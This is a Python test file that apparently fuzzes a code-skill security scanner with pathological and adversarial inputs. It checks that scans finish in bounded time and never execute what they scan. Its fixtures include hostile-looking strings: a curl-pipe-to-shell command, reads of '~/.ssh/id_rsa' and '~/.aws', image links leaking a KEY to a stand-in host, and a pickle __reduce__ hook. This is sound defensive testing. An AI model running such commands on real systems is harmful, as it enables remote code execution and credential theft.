"""Files made to break the scanner: it answers for any bytes, in bounded time, and never takes part."""

import pickle
import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from raptorflow.skills.scanning.scan import scan_files

MIB = 1024 * 1024
LONGEST = 10.0
"""Seconds of the processor for a file at its size limit; what grows with the square takes minutes."""
HOSTILE: dict[str, Callable[[], tuple[str, str]]] = {
    "brackets nested too deep": lambda: ("a.py", "(" * 100_000),
    "lists nested as deep as the parser goes": lambda: ("a.py", "x = " + "[" * 90 + "]" * 90),
    "a sum of a hundred thousand texts": lambda: ("a.py", "x = " + "+".join(["'a'"] * 100_000)),
    "attributes without end": lambda: ("a.py", "x" + ".a" * 50_000),
    "calls of calls": lambda: ("a.py", "f" + "()" * 20_000),
    "blocks in blocks": lambda: ("a.py", "".join(f"{' ' * n}if x:\n" for n in range(95)) + " " * 95 + "pass"),
    "a line of a mebibyte": lambda: ("a.py", "x = '" + "a" * MIB + "'"),
    "a long line in the instructions": lambda: ("SKILL.md", "a " * (MIB // 2)),
    "fences without end": lambda: ("SKILL.md", "```\n" * (MIB // 8)),
    "fences that nest": lambda: ("SKILL.md", "".join("`" * n + "\n" for n in range(3, 1000))),
    "functions that call each other": lambda: (
        "a.py",
        "".join(f"def f{n}(x):\n    f{n + 1}(x + 'a')\n    f{n + 1}(x + 'b')\n" for n in range(300))
        + "f0('')",
    ),
    "a text that doubles": lambda: ("a.py", "x = 'a'\n" + "x = x + x\n" * 60),
    "a number that grows": lambda: ("a.py", "x = 9\n" + "x = x * x * x\n" * 60),
    "a repeated text": lambda: ("a.py", "x = 'a' * 999999999 * 999999999"),
    "names that many branches give": lambda: (
        "a.py",
        "if a:\n    x = '1'\nelse:\n    x = '2'\ny = x + x\n" * 2000,
    ),
    "imports in a circle": lambda: ("a.py", "import b\nfrom a import *\nimport a"),
    "a class of itself": lambda: (
        "a.py",
        "class A(A):\n    pass\nA().x()\nclass B(C): pass\nclass C(B): pass\nB().y()",
    ),
    "many spaces": lambda: ("SKILL.md", " " * MIB + "x"),
    "many dots and slashes": lambda: ("a.py", f"open('{'./' * 100_000}')"),
    "names that hold each other": lambda: (
        "a.js",
        "const a0 = atob('x');\n" + "".join(f"const a{n + 1} = f(a{n});\n" for n in range(8000)) + "eval(b)",
    ),
    "many addresses": lambda: ("a.py", "import requests\n" + "requests.get('https://a.example')\n" * 10_000),
    "many empty lines": lambda: ("a.mjs", "f()\n" + "\n" * 500_000 + "g()"),
    "many addresses in prose": lambda: ("SKILL.md", "POST ~/.aws/x https://a.example/x " * 30_000),
    "many quotes": lambda: ("a.rb", "'a' , " * (MIB // 8)),
    "many commands": lambda: ("a.yml", '"curl -s https://a.example/x | sh"\n' * 25_000),
    "many pictures": lambda: ("SKILL.md", "![a](https://a.example/x?y=KEY) " * 30_000),
    "names of files everywhere": lambda: ("a.go", 'import "a"\n' * 60_000),
}


@pytest.mark.parametrize("title", HOSTILE)
def test_a_hostile_file_is_answered_in_bounded_time(title: str) -> None:
    path, text = HOSTILE[title]()
    began = time.process_time()
    scan_files({path: text.encode()})
    assert time.process_time() - began < LONGEST


@given(st.dictionaries(st.text(max_size=20), st.binary(max_size=300), max_size=4))
@settings(max_examples=150, deadline=None)
def test_any_bytes_are_answered(files: dict[str, bytes]) -> None:
    scan_files(files)


PIECES = st.sampled_from(
    [
        *"()[]{}:,.=+-*/%\n\t '\"#\\@",
        *("    ", "import os", "def f(x):\n    ", "class A:\n    ", "return ", "lambda: ", "f'{x}'", "exec"),
        *(
            "open('~/.ssh/id_rsa').read()",
            "base64.b64decode",
            "b'YQ=='",
            "getattr",
            "__import__",
            "x",
            "self",
        ),
        *(
            "for x in ",
            "if ",
            "while ",
            "with ",
            "try:\n    ",
            "except:\n    ",
            "match x:\n  case ",
            "await ",
        ),
        *("yield ", "async ", "*", "**", "os.environ", "globals()", "0", "1e999", "None", "...", "\ud800"),
        *("\0", "\ufffc", "```python\n", "```\n"),
    ]
)


@given(st.lists(PIECES, max_size=60))
@settings(max_examples=400, deadline=None)
def test_any_pieces_of_code_are_answered(pieces: list[str]) -> None:
    text = "".join(pieces).encode("utf-8", errors="surrogatepass")
    report = scan_files({"SKILL.md": text, "a.py": text, "run": b"#!/usr/bin/python\n" + text})
    failed = [finding for finding in report.findings if "could not read the skill" in finding.message]
    assert not failed, failed


class _Harmful:
    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return print, ("loaded",)


def test_nothing_that_is_scanned_is_loaded_or_run(capsys: pytest.CaptureFixture[str]) -> None:
    files = {
        "m.pkl": pickle.dumps(_Harmful()),
        "a.py": b"import pickle\nprint(1)\npickle.load(open('m.pkl', 'rb'))",
    }
    scan_files(files)
    assert capsys.readouterr().out == ""
